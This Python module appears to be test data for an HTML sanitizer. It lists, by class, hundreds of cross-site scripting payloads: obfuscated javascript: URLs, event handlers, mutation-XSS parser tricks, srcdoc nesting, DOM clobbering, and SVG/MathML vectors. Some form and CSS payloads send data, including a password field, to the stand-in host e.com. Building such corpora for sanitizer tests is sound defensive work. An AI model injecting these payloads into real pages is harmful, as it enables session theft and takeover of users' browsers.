# ruff: noqa: E501 - a payload or an expectation reads best on one line
"""Markup made to do harm, by class, written for these tests: what no cleaning may let through."""

from __future__ import annotations

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,x", "blob:https://e.com/1", "filesystem:https://e.com/1",
    "view-source:https://e.com", "file:///etc/passwd", "jar:https://e.com!/x", "feed:javascript:alert(1)",
    "\\\\javascript:alert(1)", "%6Aavascript:alert(1)", "javascript://e.com/%0Aalert(1)",
    "javascript\u200b:alert(1)", "x-javascript:alert(1)", "about:blank", "chrome://settings",
)  # fmt: skip

_SINKS = (
    '<a href="{}">x</a>', '<img src="{}">', '<img srcset="{} 2x">', '<img src=x data-src="{}">',
    '<img data-original="{}">', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<video src="{}"></video>', '<video poster="{}"></video>', '<audio><source src="{}"></audio>',
    '<blockquote cite="{}">x</blockquote>', '<math href="{}"><mi>x</mi></math>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<form action="{}"><button formaction="{}">x</button></form>', '<link rel=stylesheet href="{}">', '<base href="{}">',
    '<area href="{}">', '<body background="{}">', '<table background="{}"><tr><td background="{}">x</table>', "<a href='{}'>x</a>",
)  # fmt: skip

_HANDLERS = tuple(
    f"<{tag} {handler}=alert(1)>x"
    for tag in ("img src=x", "p", "a", "body", "div", "details open", "svg", "video", "marquee", "input autofocus", "math", "td")
    for handler in ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "ONERROR", "on\u0130error")
)  # fmt: skip

_MUTATION = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
    "<svg><desc><noscript></desc><style></noscript><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<template><p title="</template><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    "<table><td><svg><desc><td></desc><style><!--</style><img src=x onerror=alert(1)>-->",
    '<p><svg><foreignObject><p><style><p title="</style><iframe onload&#x3d;alert(1)></iframe>">',
    "<img alt=\"`<script>alert(1)</script>\">",
    '<img alt="&lt;/title&gt;<img src=x onerror=alert(1)>">',
    "<x-iframe src=javascript:alert(1)>x</x-iframe>",
    "<x-noscript><script>alert(1)</script></x-noscript>",
    '<x-noscript title="<img src=x onerror=alert(1)>">',
    '<video><source src="x"><iframe src="javascript:alert(1)"></video>',
    '<iframe src="https://e.com/" srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    '<img src="https://e.com/&quot; onerror=&quot;alert(1)">',
    "<img src='https://e.com/\" onerror=\"alert(1)'>",
    '<iframe src="https://e.com/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src='https://<script>alert(1)</script>/'></iframe>",
    "<img title='\"><script>alert(1)</script>'>",
)  # fmt: skip

_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//e.com/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script >", "<<script>alert(1)//<</script>",
    "<script>alert(1)", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=//e.com/x.js />",
    "<math><script>alert(1)</script></math>", "<![CDATA[<script>alert(1)</script>]]>", "<!--><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "\ud800<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script\u2028>", "＜script＞alert(1)＜/script＞",
)  # fmt: skip

_REST = (
    "<style>@import '//e.com/x.css';</style>", "<p style='background:url(javascript:alert(1))'>x",
    "<p style='position:fixed;inset:0;z-index:9'>x", "<div style=\"width:expression(alert(1))\">x",
    "<link rel=import href=//e.com/x>", "<meta http-equiv=refresh content='0;url=//e.com'>",
    "<base href=//e.com/><a href=x>y</a>", "<form action=//e.com><input name=password><button>x</form>",
    "<input type=image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1)>", "<button formaction=//e.com>x",
    "<frameset><frame src=//e.com></frameset>", "<iframe src=//e.com></iframe>", "<object data=//e.com/x.swf></object>",
    "<embed src=//e.com/x.swf>", "<applet code=x></applet>", "<portal src=//e.com></portal>", "<dialog open>x</dialog>",
    "<img id=body name=cookie>", "<a id=defaultView name=x href=//e.com>y</a>", "<form id=document><input name=domain>",
    "<p class='x' id='y' name='z' slot='s' is='i' contenteditable>x", "<a href=//e.com target=_blank ping=//e.com/p download>x</a>",
    "<img usemap=#m src=x><map name=m><area href=//e.com></map>", "<svg><use href=//e.com/x.svg#a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<math><maction actiontype='statusline#//e.com' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<video autoplay><track src=//e.com></video>", "<marquee behavior=scroll>x</marquee>", "<keygen autofocus>", "<comment>x</comment>",
    "<custom-element onconnected=alert(1)>x</custom-element>", "<slot name=x></slot>", "<template><script>alert(1)</script></template>",
)  # fmt: skip

_SRCDOC = (
    "<iframe srcdoc=<script>alert(1)</script>></iframe>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<IFRAME SRCDOC='<svg onload=alert(1)>'></IFRAME>",
    "<iframe/srcdoc='&#60;img src=x onerror=alert(1)&#62;'></iframe>",
    "<iframe src=about:blank srcdoc='&lt;body onload=alert(1)&gt;'></iframe>",
    "<iframe srcdoc='&lt;iframe srcdoc=&quot;&amp;lt;img src=x onerror=alert(1)&amp;gt;&quot;&gt;'></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='<script src=//e.com/x.js></script>'></iframe>",
    "<iframe srcdoc='<meta http-equiv=refresh content=0;url=//e.com/away>'></iframe>",
    "<iframe srcdoc='<form action=//e.com/form method=post id=f></form><script>f.submit()</script>'></iframe>",
    "<iframe srcdoc='<base target=_top><a href=javascript:alert(1)>x</a>' name=x></iframe>",
    "<x-iframe srcdoc='<script>alert(1)</script>'></x-iframe>",
    "<iframe\nsrcdoc\n=\n'<script>alert(1)</script>'>",
    "<iframe title=x/srcdoc srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc='\x00<script>alert(1)</script>'></iframe>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><iframe srcdoc=\"<script>alert(1)</script>\">",
)  # fmt: skip

_FORMS = (
    "<form method=post action=//e.com/form><input name=a value=1><button>x</button></form>",
    "<form id=f1 action=javascript:alert(1)></form><button form=f1>x</button>",
    "<form id=f2></form><button form=f2 formaction=javascript:alert(1)>x</button>",
    "<form id=f3></form><button form=f3 formaction=//e.com/form formmethod=post>x</button>",
    "<form><button formaction=javascript:alert(1)>x",
    "<form><button formaction='java&Tab;script:alert(1)'>x",
    "<form><button formaction=' javascript:alert(1)' type=submit>x",
    "<form><input type=submit formaction=javascript:alert(1)>",
    "<form><input type=image src=x formaction=javascript:alert(1)>",
    "<form><input type=image src=x formaction=//e.com/form formmethod=post>",
    "<form action=//e.com/form><isindex>", "<form action=//e.com/form><select name=a><option>1</select><button>x",
    "<form action=//e.com/form><textarea name=a>1</textarea><button>x", "<form action=//e.com/form><keygen name=a><button>x",
    "<form action=//e.com/form method=dialog><button formmethod=post>x",
    "<form action=//e.com/form><fieldset><legend><button>x</button></legend></fieldset></form>",
    "<math><mtext><form action=//e.com/form><button>x</button></form></mtext></math>",
    "<form action=//e.com/form><table><tr><form><td><button>x</button></table>",
    "<div><form action=//e.com/form></div><button>x</button>",
    "<form><input type=submit formaction=//e.com/form formmethod=POST value=x>",
)  # fmt: skip

_CSS = (
    "<style>@import url(//e.com/css);</style>", "<style>body{background:url(//e.com/css)}</style>",
    "<link rel=stylesheet href=//e.com/css>", "<link rel='alternate stylesheet' href=//e.com/css title=x>",
    "<link rel=preload as=script href=//e.com/x.js>", "<link rel=modulepreload href=//e.com/x.js>",
    "<link rel=prefetch href=//e.com/x.js>", "<link rel=icon href=//e.com/css>", "<link rel=manifest href=//e.com/css>",
    "<p style='background:url(//e.com/css)'>x", "<p style='background-image:image-set(\"//e.com/css\" 1x)'>x",
    "<p style='list-style:url(//e.com/css);display:list-item'>x", "<p style='content:url(//e.com/css)'>x",
    "<p style='border-image:url(//e.com/css) 1'>x", "<p style='cursor:url(//e.com/css),auto'>x",
    "<p style='-moz-binding:url(//e.com/css)'>x", "<p style='behavior:url(//e.com/css)'>x",
    "<p style='b\\61 ckground:url(//e.com/css)'>x", "<p style='background:u/**/rl(//e.com/css)'>x",
    "<p style='background:&#117;rl(//e.com/css)'>x", "<p style=background:url(//e.com/css)>x",
    "<style><!--</style><p style='background:url(//e.com/css)'>x-->", "<style>@font-face{font-family:x;src:url(//e.com/css)}p{font-family:x}</style><p>x",
    "<svg><style>@import '//e.com/css';</style></svg>", "<math><style>@import '//e.com/css';</style></math>",
    "<style>input[value^=a]{background:url(//e.com/css)}</style><input value=a>", "<div style='filter:url(//e.com/x.svg#a)'>x</div>",
    "<style media=all>p{position:fixed;inset:0}</style><p>x", "<p style='animation:x 1s' onanimationstart=alert(1)>x<style>@keyframes x{}</style>",
    "<p style='transition:color 1s' ontransitionend=alert(1)>x", "<noscript><style>@import '//e.com/css';</style></noscript>",
)  # fmt: skip

_CLOBBERING = (
    *(f"<{markup}" for name in ("cookie", "body", "location", "getElementById", "forms", "head", "implementation", "currentScript")
      for markup in (f"img name={name} src=x>", f"form name={name}></form>", f"a id={name} href=//e.com/x>x</a>")),
    "<form id=x><input name=attributes><input name=nodeName>", "<form><input name=parentNode><input name=submit>",
    "<a id=config><a id=config name=url href=//e.com/x>x</a>", "<iframe name=self srcdoc='<a id=x></a>'></iframe>",
    "<object id=fired></object>", "<embed name=fired>", "<img id=__proto__ name=constructor src=x>",
    "<svg id=parent><a id=top></a></svg>", "<math id=document><mi name=write>x</mi></math>", "<p id='toString' name='valueOf'>x",
)  # fmt: skip

_SVG_MATH = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><g/onload=alert(1)></g></svg>", "<svg><script>alert(1)//</svg>",
    "<svg><script>alert&#40;1)</script></svg>", "<svg><script href=//e.com/x.js></script></svg>",
    "<svg><script xlink:href='data:text/javascript,alert(1)'></script></svg>",
    "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><a xlink:href='javascript:alert(1)'><rect width=9 height=9 /></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) dur=1ms fill=freeze /><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x to=1>",
    "<svg><animate onend=alert(1) attributeName=x dur=1ms>", "<svg><image href=x onerror=alert(1) /></svg>",
    "<svg><image href=//e.com/css /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><script>alert(1)</script></desc></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><img src=x onerror=alert(1)>",
    "<svg><discard onbegin=alert(1)>", "<svg><feImage href=//e.com/css /></svg>", "<svg xmlns:xlink=x><handler>alert(1)</handler></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<math href=javascript:alert(1)>x</math>", "<math><mi href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<math><mi><img src=x onerror=alert(1)></mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><annotation-xml encoding=application/xhtml+xml><svg onload=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation encoding=text/html><img src=x onerror=alert(1)></annotation></semantics></math>",
    "<math><annotation><style></annotation></math><img src=x onerror=alert(1)></style>",
    "<math onclick=alert(1)><mi onmouseover=alert(1)>x</mi></math>", "<math><mstyle mathbackground='url(//e.com/css)'><mi>x</mi></mstyle></math>",
    "<math><mglyph src=//e.com/css onerror=alert(1)></mglyph></math>", "<math><maction actiontype=toggle onclick=alert(1)><mi>x</mi></maction></math>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style>", "<math><mo><svg><mi><style><img src=x onerror=alert(1)></style>",
)  # fmt: skip

#: Of each class: a name, and what belongs to it.
CLASSES: dict[str, tuple[str, ...]] = {
    "schemes": tuple(sink.replace("{}", scheme) for sink in _SINKS for scheme in _SCHEMES),
    "handlers": _HANDLERS,
    "mutation": _MUTATION,
    "scripts": _SCRIPTS,
    "srcdoc": _SRCDOC,
    "forms": _FORMS,
    "css": _CSS,
    "clobbering": _CLOBBERING,
    "svg and math": _SVG_MATH,
    "frames and the rest": _REST,
}

PAYLOADS = tuple(dict.fromkeys(payload for found in CLASSES.values() for payload in found))
